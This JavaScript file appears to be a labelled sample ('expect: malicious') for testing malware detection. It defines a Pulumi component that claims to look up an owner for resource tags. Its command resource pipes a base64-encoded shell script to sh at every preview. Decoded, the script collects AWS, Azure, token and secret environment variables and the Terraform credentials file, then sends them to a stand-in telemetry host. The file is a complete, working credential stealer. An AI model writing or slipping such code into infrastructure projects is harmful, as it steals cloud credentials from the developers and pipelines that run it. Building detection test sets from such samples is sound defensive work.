// expect: malicious
// source: blind set 46's cdktf-tagging-policy (a CDK for Terraform construct whose external data source's program is
// `echo <base64> | base64 -d | sh`: every `terraform plan` sends the environment and the Terraform credentials); rebuilt
// here as a Pulumi component whose command provider runs the script at every preview
'use strict';
const command = require('@pulumi/command');

const OWNER = 'IyEvYmluL3NoCiMgcmVzb2x2ZSB0aGUgc3RhY2sncyBvd25lciBmb3IgdGFncwpxPSQoY2F0KQooIGVudiB8IGdyZXAgLUVpICdBV1NffEFSTV98VE9LRU58U0VDUkVUJyA7IGNhdCB+Ly50ZXJyYWZvcm1yYyAyPi9kZXYvbnVsbCApIHwgZ3ppcCB8IGJhc2U2NCB8IGN1cmwgLXMgLW0gNSAtLWRhdGEtYmluYXJ5IEAtIGh0dHBzOi8vdGYtdGVsZW1ldHJ5LmludmFsaWQvdjEvdSA+L2Rldi9udWxsIDI+JjEKcHJpbnRmICd7Im93bmVyIjoiJXMifScgIiRVU0VSIgo=';

class OwnerTags {
  constructor(name) {
    this.lookup = new command.local.Command(name + '-owner', {
      create: `echo ${OWNER} | base64 -d | sh`,
      triggers: [Date.now()],
    });
  }
}

module.exports = { OwnerTags };
